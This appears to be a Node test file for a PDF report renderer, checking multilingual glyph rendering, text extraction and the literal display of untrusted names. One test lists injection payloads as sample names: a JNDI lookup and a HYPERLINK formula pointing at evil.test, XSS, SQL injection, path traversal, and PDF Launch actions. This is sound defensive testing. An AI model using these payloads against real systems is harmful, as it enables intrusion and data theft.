// A page in every script: its appearance and the text that programs extract.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import pixelmatch from 'pixelmatch';
import { PNG } from 'pngjs';
import type { DocumentInfo } from '../../../lib/adapters/pdf/draw.ts';
import { drawDocument } from '../../../lib/adapters/pdf/draw.ts';
import type { Page, Part } from '../../../lib/adapters/pdf/page-elements.ts';
import { lineAt } from '../../../lib/adapters/pdf/text/typesetter.ts';
import type { Direction } from '../../../lib/i18n/text-direction.ts';
import type { Operation } from '../../../lib/charts/draw-operations.ts';
import { textStyles } from '../../../lib/charts/theme.ts';
import { messagesFor } from '../../../lib/i18n/catalogues.ts';
import { LANGUAGES } from '../../../lib/i18n/messages.ts';
import { createReport, createStoreReport } from '../../support/test-reports.ts';
import { SCRIPT_SAMPLES } from '../../support/scripts-of-the-world.ts';
import { textsOf } from '../../unit/adapters/pdf/read-back.ts';
import { renderPdf } from '../../unit/adapters/pdf/rendered.ts';

const tools = ['qpdf', 'pdftoppm'].filter((tool) => spawnSync(tool, ['-v']).error !== undefined);
const needsTools = { skip: tools.length === 0 ? false : `needs ${tools.join(' and ')}` };
const golden = new URL('../../golden/scripts.png', import.meta.url);
/** Tolerates anti-aliasing of other versions of the rasterizer; a wrong glyph differs more. */
const MOST_PIXELS = 400;

const ABOUT: DocumentInfo = {
  title: 'Writings',
  language: 'en-GB',
  at: new Date('2026-11-16T18:00:00Z'),
  attachment: {
    name: 'report.json',
    contentType: 'application/json',
    description: '',
    bytes: Buffer.from('{}'),
  },
};

function part(operations: readonly Operation[]): Part {
  return { element: { role: 'P', parent: null }, operations, dx: 0, dy: 0 };
}

function pageOf(direction: Direction): Page {
  const [width, height] = [595, 30 * SCRIPT_SAMPLES.length + 50];
  const x = direction === 'ltr' ? 190 : width - 190;
  const align = direction === 'ltr' ? 'left' : 'right';
  return {
    width,
    height,
    direction,
    parts: SCRIPT_SAMPLES.map(([writing, sample], i) => {
      const y = 40 + i * 30;
      return part([
        ...lineAt(writing, textStyles.label, direction === 'ltr' ? 40 : width - 40, y, align),
        ...lineAt(sample, textStyles.body, x, y, align),
        ...lineAt(sample, textStyles.strong, x, y + 13, align),
      ]);
    }),
  };
}

async function pdf(): Promise<Uint8Array> {
  return drawDocument([pageOf('ltr'), pageOf('rtl')], ABOUT);
}

/** The two pages stacked vertically. */
function painted(bytes: Uint8Array): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'writings-'));
  try {
    writeFileSync(join(folder, 'page.pdf'), bytes);
    execFileSync('pdftoppm', ['-r', '75', '-gray', '-png', 'page.pdf', 'page'], { cwd: folder });
    const [firstImage, secondImage] = ['page-1.png', 'page-2.png'].map((name) =>
      PNG.sync.read(readFileSync(join(folder, name))),
    );
    assert.ok(firstImage !== undefined && secondImage !== undefined);
    const { width, height } = firstImage;
    const combined = new PNG({ width, height: 2 * height });
    PNG.bitblt(firstImage, combined, 0, 0, width, height, 0, 0);
    PNG.bitblt(secondImage, combined, 0, 0, width, height, 0, height);
    return PNG.sync.write(combined, { colorType: 0 });
  } finally {
    rmSync(folder, { recursive: true });
  }
}

describe('a page in every script', () => {
  it('matches test/golden/scripts.png (UPDATE_GOLDEN=1 writes it)', needsTools, async () => {
    const picture = painted(await pdf());
    if (process.env['UPDATE_GOLDEN'] === '1') writeFileSync(golden, picture);
    const [actual, expected] = [PNG.sync.read(picture), PNG.sync.read(readFileSync(golden))];
    const { width, height } = expected;
    assert.deepEqual([actual.width, actual.height], [width, height]);
    const differentPixels = pixelmatch(actual.data, expected.data, undefined, width, height, {
      threshold: 0.3,
    });
    assert.ok(differentPixels <= MOST_PIXELS, `${String(differentPixels)} pixels differ`);
  });

  it('gives the original text on extraction, in both directions', needsTools, async () => {
    const writtenTexts = SCRIPT_SAMPLES.flatMap(([writing, sample]) => [writing, sample, sample]);
    assert.deepEqual(textsOf(await pdf()), [...writtenTexts, ...writtenTexts]);
  });

  it(
    'gives back each name, though one glyph stands for characters of several',
    needsTools,
    async () => {
      const names = ['ईमेल कैसा था?', 'इमारत साफ़ थी', 'ऐसा', 'एक', '⽇本', '日本 東京', '❤︎', '❤️'];
      const operations = names.flatMap((name, i) => lineAt(name, textStyles.body, 40, 40 + i * 20));
      const page = {
        width: 595,
        height: 300,
        direction: 'ltr',
        parts: [part(operations)],
      } as const;
      assert.deepEqual(textsOf(await drawDocument([page], ABOUT)), names);
    },
  );

  it(
    'keeps the words on both sides of a line’s end apart, in every language',
    needsTools,
    async () => {
      for (const locale of LANGUAGES) {
        const { bytes } = await renderPdf(createStoreReport(1), { locale, paper: 'A4' });
        const documentText = textsOf(bytes).join('');
        const { methodWeek, view } = messagesFor(locale);
        for (const text of [methodWeek, view.methodPlace]) {
          assert.ok(documentText.includes(text), `${locale}: ${text}`);
        }
      }
    },
  );

  it('shows hostile names literally', needsTools, async () => {
    const hostile = [
      '../../x',
      'a/b',
      'CON',
      '%2e%2e',
      '=HYPERLINK("http://evil.test")',
      '@SUM(1+1)*cmd',
      '+1',
      '-1',
      '<script>alert(1)</script>',
      '<b>&amp;</b>',
      '${jndi:ldap://evil.test}',
      '{{7*7}}',
      'javascript:alert(1)',
      'file:///etc/passwd',
      'data:text/html,x',
      ')>> /OpenAction 1 0 R',
      '<</S/Launch>>',
      '\\',
      "'; DROP TABLE x; --",
    ];
    const report = createReport({
      key: 1,
      name: 'Kiosk',
      surveys: hostile.map((name, i) => ({ key: i + 1, name })),
    });
    const texts = textsOf((await renderPdf(report)).bytes);
    for (const name of hostile)
      assert.ok(
        texts.some((text) => text.includes(name)),
        name,
      );
    // Removed characters leave the rest of a name.
    const [hidden] = textsOf(
      (
        await renderPdf(
          createReport({ key: 1, name: 'a\u0000\u001b[31m\u202eb\u200b\ud800', surveys: [] }),
        )
      ).bytes,
    );
    assert.equal(hidden, 'a[31mb\ufffd');
  });
});
